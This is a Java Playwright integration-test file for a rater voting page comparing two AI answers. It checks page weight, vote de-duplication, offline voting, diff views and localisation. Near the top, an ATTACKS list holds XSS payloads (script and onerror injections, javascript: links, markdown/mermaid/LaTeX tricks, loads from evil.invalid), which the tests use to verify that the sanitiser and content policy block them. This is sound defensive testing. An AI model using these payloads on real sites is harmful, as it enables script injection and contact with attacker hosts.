@@ -1,0 +1,350 @@
+package dev.evenhand.web;
+
+import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
+import static org.awaitility.Awaitility.await;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertNull;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import com.google.gson.JsonObject;
+import com.microsoft.playwright.Browser.NewContextOptions;
+import com.microsoft.playwright.BrowserContext;
+import com.microsoft.playwright.CDPSession;
+import com.microsoft.playwright.Dialog;
+import com.microsoft.playwright.Locator;
+import com.microsoft.playwright.Page;
+import com.microsoft.playwright.Request;
+import com.microsoft.playwright.options.AriaRole;
+import dev.evenhand.Api;
+import io.quarkus.test.common.http.TestHTTPResource;
+import io.quarkus.test.junit.QuarkusIntegrationTest;
+import java.net.URL;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import java.util.concurrent.CopyOnWriteArrayList;
+import org.junit.jupiter.api.Test;
+
+/** What a rater's page promises whatever the texts hold, and whatever the rater, the browser and the network do. */
+@QuarkusIntegrationTest
+class RatersPageIT {
+    /** The page takes no vote in the first half second of a battle. */
+    private static final int LOOK_MS = 700;
+
+    /** Fonts included, before formulas and code. */
+    private static final double LIGHT_BYTES = 150_000;
+
+    private static final int FEW_REQUESTS = 12;
+
+    /** Each leaves a mark on the page if it runs, or asks another host if it loads. */
+    private static final List<String> ATTACKS = List.of(
+            "<script>window.__pwned=1</script>",
+            "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
+            "<script src=//evil.invalid/x.js></script>",
+            "<img src=x onerror=window.__pwned=1>",
+            "<img src=//evil.invalid/pixel.png>",
+            "<svg onload=window.__pwned=1><use href=//evil.invalid/a.svg#a></svg>",
+            "<details open ontoggle=window.__pwned=1>x</details>",
+            "<body onload=window.__pwned=1>",
+            "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
+            "<iframe src=javascript:parent.__pwned=1></iframe>",
+            "<object data=//evil.invalid/o></object><embed src=//evil.invalid/e>",
+            "<link rel=stylesheet href=//evil.invalid/s.css><style>@import url(//evil.invalid/t.css);</style>",
+            "<base href=//evil.invalid/><a href=x>x</a>",
+            "<form action=//evil.invalid/ id=app><input name=submit autofocus onfocus=window.__pwned=1></form>",
+            "<video src=//evil.invalid/v onerror=window.__pwned=1></video>",
+            "<div style='position:fixed;inset:0;background:url(//evil.invalid/b.png)'>cover</div>",
+            "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
+            "[press](javascript:window.__pwned=1) and ![pixel](https://evil.invalid/p.png)",
+            "```\"><img src=x onerror=window.__pwned=1>\ncode\n```",
+            "```js\n</code></pre><script>window.__pwned=1</script>\n```",
+            "```mermaid\ngraph TD; A[\"<img src=x onerror=window.__pwned=1>\"]; click A href \"javascript:window.__pwned=1\"\n```",
+            "$\\href{javascript:window.__pwned=1}{x}$ $\\includegraphics{//evil.invalid/p.png}$",
+            "$$\n<img src=x onerror=window.__pwned=1>\n$$");
+
+    @TestHTTPResource
+    URL server;
+
+    @Test
+    void thePageIsLightAndAsksForFewThings() throws Exception {
+        String slug = arena(3);
+
+        try (Browser browser = new Browser()) {
+            Page page = begun(browser.newPerson(), slug);
+            CDPSession network = page.context().newCDPSession(page);
+            List<Double> bytes = new CopyOnWriteArrayList<>();
+            network.on(
+                    "Network.loadingFinished",
+                    done -> bytes.add(done.get("encodedDataLength").getAsDouble()));
+            network.send("Network.enable", new JsonObject());
+            network.send("Network.clearBrowserCache", new JsonObject());
+            page.reload();
+            open(page);
+            page.waitForTimeout(LOOK_MS);
+
+            double all = bytes.stream().mapToDouble(Double::doubleValue).sum();
+            assertTrue(all > 0 && all <= LIGHT_BYTES, all + " bytes");
+            assertTrue(bytes.size() <= FEW_REQUESTS, bytes.size() + " requests");
+        }
+    }
+
+    @Test
+    void nothingInATextRunsOrLoadsWhereTheSanitiserIsAlone() throws Exception {
+        String slug = Api.arena(Map.of("access", "open", "votesPerMinute", 0));
+        StringBuilder file = new StringBuilder("prompt_id,prompt,model,response\n");
+        for (int i = 0; i < ATTACKS.size(); i++) {
+            String attack = quoted(ATTACKS.get(i));
+            file.append("p%d,%s,Alpha,%s\n".formatted(i, attack, attack));
+            file.append("p%d,%s,Beta,plain\n".formatted(i, attack));
+        }
+        Api.upload(slug, file.toString());
+        Api.open(slug);
+
+        try (Browser browser = new Browser()) {
+            List<String> wrong = new ArrayList<>();
+            Page page = begun(browser.newPersonWithoutPolicy(), slug);
+            watch(page, wrong);
+            for (int i = 0; i < ATTACKS.size(); i++) {
+                open(page);
+                for (String view : List.of("r", "d", "d", "r")) {
+                    page.keyboard().press(view);
+                    page.waitForTimeout(50);
+                }
+                assertNull(page.evaluate("window.__pwned"), page.content());
+                vote(page, "2");
+                assertThat(page.getByText(i + 1 + " done")).isVisible();
+            }
+            assertEquals(List.of(), wrong);
+        }
+    }
+
+    @Test
+    void nothingRunsOrLoadsWhereThePolicyIsAlone() throws Exception {
+        String slug = arena(1);
+
+        try (Browser browser = new Browser()) {
+            Page page = begun(browser.newPerson(), slug);
+            List<String> wrong = new ArrayList<>();
+            page.onRequestFinished(request -> foreign(request, wrong));
+            for (String attack : ATTACKS) {
+                page.evaluate("""
+                        attack => {
+                            const text = document.querySelector("article .text");
+                            text.innerHTML = attack;
+                            text.append(document.createRange().createContextualFragment(attack));
+                        }""", attack);
+                page.waitForTimeout(100);
+                assertNull(page.evaluate("window.__pwned"), attack);
+            }
+            assertEquals(List.of(), wrong);
+        }
+    }
+
+    @Test
+    void aDoubleClickAndAHeldKeyAreOneVote() throws Exception {
+        String slug = arena(6);
+
+        try (Browser browser = new Browser()) {
+            Page page = begun(browser.newPerson(), slug);
+            page.waitForTimeout(LOOK_MS);
+            better(page).dblclick();
+            assertThat(page.getByText("1 done")).isVisible();
+
+            open(page);
+            page.waitForTimeout(LOOK_MS);
+            for (int i = 0; i < 10; i++) {
+                page.keyboard().down("4");
+                page.waitForTimeout(150);
+            }
+            page.keyboard().up("4");
+            assertThat(page.getByText("2 done")).isVisible();
+
+            open(page);
+            page.waitForTimeout(LOOK_MS);
+            better(page).focus();
+            for (int i = 0; i < 10; i++) {
+                page.keyboard().down("Enter");
+                page.waitForTimeout(150);
+            }
+            page.keyboard().up("Enter");
+            assertThat(page.getByText("3 done")).isVisible();
+        }
+        assertEquals(3, votes(slug));
+    }
+
+    @Test
+    void goingBackAndVotingAgainDecidesEachBattleOnce() throws Exception {
+        String slug = arena(3);
+
+        try (Browser browser = new Browser()) {
+            Page page = begun(browser.newPerson(), slug);
+            vote(page, "1");
+            assertThat(page.getByText("1 done")).isVisible();
+            page.goBack();
+            page.goForward();
+            vote(page, "4");
+            assertThat(page.getByText("2 done")).isVisible();
+        }
+        assertEquals(2, votes(slug));
+    }
+
+    @Test
+    void twoTabsCastOneVoteForABattle() throws Exception {
+        String slug = arena(3);
+
+        try (Browser browser = new Browser()) {
+            BrowserContext person = browser.newPerson();
+            Page one = begun(person, slug);
+            Page other = person.newPage();
+            other.navigate(address("/arenas/" + slug + "/vote"));
+            open(other);
+
+            vote(one, "1");
+            assertThat(one.getByText("1 done")).isVisible();
+            vote(other, "4");
+            assertThat(other.getByText("already decided elsewhere")).isVisible();
+            assertThat(other.getByText("1 done")).isVisible();
+        }
+        assertEquals(1, votes(slug));
+    }
+
+    @Test
+    void aVoteCastOfflineIsSentWhenTheNetworkIsBack() throws Exception {
+        String slug = arena(3);
+
+        try (Browser browser = new Browser()) {
+            BrowserContext person = browser.newPerson();
+            Page page = begun(person, slug);
+            person.setOffline(true);
+            vote(page, "1");
+            assertThat(page.getByText("the server cannot be reached")).isVisible();
+            person.setOffline(false);
+            assertThat(page.getByText("1 done")).isVisible();
+
+            open(page);
+            person.setOffline(true);
+            vote(page, "4");
+            assertThat(page.getByText("the server cannot be reached")).isVisible();
+            page.close();
+            person.setOffline(false);
+            Page later = person.newPage();
+            later.navigate(address("/arenas/" + slug + "/vote"));
+            assertThat(later.getByText("2 done")).isVisible();
+        }
+        assertEquals(2, votes(slug));
+    }
+
+    @Test
+    void theTwoAnswersCanBeSeenOneAtATimeAsWrittenAndByWhatDiffers() throws Exception {
+        String slug = Api.arena(Map.of("access", "open"));
+        Api.upload(slug, """
+                prompt_id,prompt,model,response
+                p1,Where?,Alpha,"The *capital* is Canberra, $x^2$."
+                p1,Where?,Beta,"The *capital* is Sydney, $x^2$."
+                """);
+        Api.open(slug);
+
+        try (Browser browser = new Browser()) {
+            Page page = begun(browser.newPerson(), slug);
+            Locator panels = page.locator("article");
+            assertThat(page.locator("math")).hasCount(2);
+            page.keyboard().press("d");
+            assertThat(page.locator("mark")).hasCount(2);
+            assertThat(panels.first()).containsText("2 words stand in only one of the two");
+            page.keyboard().press("d");
+            page.keyboard().press("r");
+            assertThat(panels.first()).containsText("The *capital* is");
+            page.keyboard().press("f");
+            assertThat(panels.first()).isVisible();
+            assertThat(panels.last()).isHidden();
+            page.keyboard().press("f");
+            assertThat(panels.first()).isHidden();
+            assertThat(panels.last()).isVisible();
+            page.reload();
+            assertThat(panels.first()).containsText("The *capital* is");
+            assertThat(panels.last()).isHidden();
+        }
+    }
+
+    @Test
+    void thePagesSpeakJapaneseToWhoReadsIt() throws Exception {
+        String slug = arena(2);
+
+        try (Browser browser = new Browser()) {
+            Page page = browser.newPerson(new NewContextOptions().setLocale("ja-JP"))
+                    .newPage();
+            page.navigate(address("/arenas/" + slug + "/join"));
+            page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("始める"))
+                    .click();
+            Locator vote = page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Aの方が良い"));
+            assertThat(vote).hasAttribute("aria-disabled", "false");
+            assertThat(page.locator("html")).hasAttribute("lang", "ja");
+
+            page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("言語と配色"))
+                    .click();
+            page.getByLabel("ダーク").check();
+            assertThat(page.locator("html")).hasAttribute("data-theme", "dark");
+            page.getByLabel("English").click();
+            assertThat(better(page)).hasAttribute("aria-disabled", "false");
+            assertThat(page.locator("html")).hasAttribute("data-theme", "dark");
+        }
+    }
+
+    private Page begun(BrowserContext person, String slug) {
+        Page page = person.newPage();
+        page.navigate(address("/arenas/" + slug + "/join"));
+        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Begin"))
+                .click();
+        open(page);
+        return page;
+    }
+
+    private void watch(Page page, List<String> wrong) {
+        page.onRequest(request -> foreign(request, wrong));
+        page.onDialog((Dialog dialog) -> {
+            wrong.add("dialog " + dialog.message());
+            dialog.dismiss();
+        });
+    }
+
+    private void foreign(Request request, List<String> wrong) {
+        if (!request.url().startsWith(address("/"))) {
+            wrong.add(request.url());
+        }
+    }
+
+    private static void open(Page page) {
+        assertThat(better(page)).hasAttribute("aria-disabled", "false");
+    }
+
+    private static void vote(Page page, String key) {
+        open(page);
+        page.waitForTimeout(LOOK_MS);
+        page.keyboard().press(key);
+    }
+
+    private static Locator better(Page page) {
+        return page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("A is better"));
+    }
+
+    private static String arena(int prompts) {
+        return Api.openArena(Map.of("access", "open", "votesPerMinute", 0), prompts, "Alpha", "Beta");
+    }
+
+    private static int votes(String slug) {
+        await().until(() -> count(slug) >= 1);
+        return count(slug);
+    }
+
+    private static int count(String slug) {
+        return Api.admin().get("/api/arenas/" + slug).then().extract().path("counts.votes");
+    }
+
+    private static String quoted(String cell) {
+        return '"' + cell.replace("\"", "\"\"") + '"';
+    }
+
+    private String address(String path) {
+        return server.toString().replaceFirst("/$", "") + path;
+    }
+}
